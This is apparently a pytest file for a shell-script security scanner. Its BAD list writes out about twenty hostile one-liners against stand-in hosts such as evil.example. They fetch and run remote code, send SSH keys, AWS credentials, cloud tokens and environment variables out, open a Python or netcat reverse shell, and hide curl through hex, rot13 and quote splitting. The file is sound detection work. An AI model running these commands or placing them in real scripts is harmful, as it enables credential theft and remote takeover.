"""Shell scripts: what is fetched or decoded and run, and keys that leave, over pipes, names, files and quotes."""

# ruff: noqa: E501 - attacks stand as they are written
from __future__ import annotations

import pytest

from assay.core.finding import Severity
from assay.formats.texts.shell_text import judge_shell
from assay.formats.texts.shell_words import looks_like_shell, pipes

BAD = [
    '''x=$(curl -s https://a.evil.example/p)
eval "$x"''',
    """wget https://a.evil.example/x.sh
bash x.sh""",
    """curl -so /tmp/.u http://1.2.3.4/u
chmod +x /tmp/.u
/tmp/.u &""",
    '''K=$(cat ~/.ssh/id_rsa | base64 -w0)
curl "https://c.evil.example/?k=$K"''',
    """t=$(gcloud auth print-access-token)
curl -X POST -d "t=$t" https://c.evil.example""",
    """for f in ~/.ssh/* ~/.aws/credentials; do
 curl -F "f=@$f" https://c.evil.example/u
done""",
    """tar czf /tmp/a.tgz ~/.aws ~/.gnupg
curl --upload-file /tmp/a.tgz https://t.evil.example""",
    """env > /tmp/e
nc evil.example 99 < /tmp/e""",
    """printf '\\x63\\x75\\x72\\x6c\\x20\\x78' | sh""",
    """echo 'ufou frnym' | tr a-z n-za-m | bash""",
    """dig +short $(cat ~/.netrc | xxd -p).evil.example""",
    '''python3 -c "import socket,os;s=socket.socket();s.connect(('1.2.3.4',9));os.dup2(s.fileno(),0);os.execl('/bin/sh','sh')"''',
    '''c''url -s https://evil.example/x | s"h"''',
    """C=curl; $C -s https://evil.example/x | bash""",
    """curl -d "$(oc whoami -t)" https://evil.example""",
    '''curl "https://evil.example/?k=$AWS_SECRET_ACCESS_KEY"''',
    """scp ~/.ssh/id_ed25519 u@evil.example:/x""",
    """curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role | curl -d @- https://evil.example""",
    """curl -fs https://evil.example/x | tee /tmp/a >/dev/null; . /tmp/a""",
    """nc evil.example 4444 | bash""",
]
GOOD = [
    """wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh
bash Miniconda3-latest-Linux-x86_64.sh -b""",
    """curl -Lo kind https://kind.sigs.k8s.io/dl/v0.20.0/kind-linux-amd64
chmod +x kind
./kind create cluster""",
    """curl -H "Authorization: Bearer $(gcloud auth print-access-token)" https://us-central1-aiplatform.googleapis.com/v1/x""",
    """curl -H "Authorization: Bearer $(oc whoami -t)" -d '{"x":1}' https://model.apps.example.com/v2""",
    """curl -s https://api.example.com/x | python3 -m json.tool""",
    """V=$(curl -s https://api.github.com/repos/x/y/releases/latest | jq -r .tag_name)
echo $V
pip install foo==$V""",
    """curl -d "token=$SLACK_TOKEN" https://slack.com/api/chat.postMessage""",
    """ssh -i ~/.ssh/id_rsa u@h 'uptime'
scp -i ~/.ssh/id_rsa model.bin u@h:/srv
rsync -e "ssh -i ~/.ssh/id_rsa" -a data/ u@h:/data""",
    """echo "$KUBECONFIG_B64" | base64 -d > ~/.kube/config
kubectl apply -f k8s/""",
    """env | sort""",
    """cat run.sh | tr -d '\\r' | bash""",
    """curl -fsSL https://x.example.com/tool -o tool
echo "abc  tool" | sha256sum -c -
chmod +x tool
./tool""",
    """curl -s https://x.example.com/data.tgz | tar xz -C data
python train.py""",
    '''curl -X POST https://hooks.slack.com/services/x -d "{\\"text\\":\\"build $(git rev-parse HEAD) done\\"}"''',
    """wget https://x.example.com/data.zip
unzip data.zip
python prepare.py data.zip""",
    """export HF_TOKEN=$(cat ~/.cache/huggingface/token)
huggingface-cli upload me/model .""",
]


@pytest.mark.parametrize("text", BAD)
def test_what_flows_to_where_it_must_not_is_told(text: str) -> None:
    assert any(note.severity.rank >= Severity.HIGH.rank for note in judge_shell(text))


@pytest.mark.parametrize("text", GOOD)
def test_ordinary_scripts_are_silent(text: str) -> None:
    assert [n.message for n in judge_shell(text) if n.severity.rank >= Severity.MEDIUM.rank] == []


def test_words_are_cut_as_a_shell_cuts_them() -> None:
    found = pipes("""a 'b c' "d $(e 'f')" | g>h # i""")
    texts = [[word.text for word in command] for command in found[0]]
    assert texts == [["a", "b c", "d $(e 'f')"], ["g", ">", "h"]]
    assert found[0][0][2].inner == ("e 'f'",)


@pytest.mark.parametrize(
    "text", ['"' * 4000, "$(" * 4000, "`" * 4001, "'" * 3999, "a|" * 4000, "x=$(" * 2000, "<(" * 4000]
)
def test_what_does_not_end_is_read_to_its_end(text: str) -> None:
    assert all(note.key.startswith("shell:") for note in judge_shell("curl " + text))
    assert isinstance(pipes(text), list)


def test_scripts_are_known_by_how_their_lines_begin() -> None:
    assert looks_like_shell("set -e\ncurl -s x | \\\n  sh\n")
    assert not looks_like_shell("To install it, run the\ncurl command below\nand restart.\n")
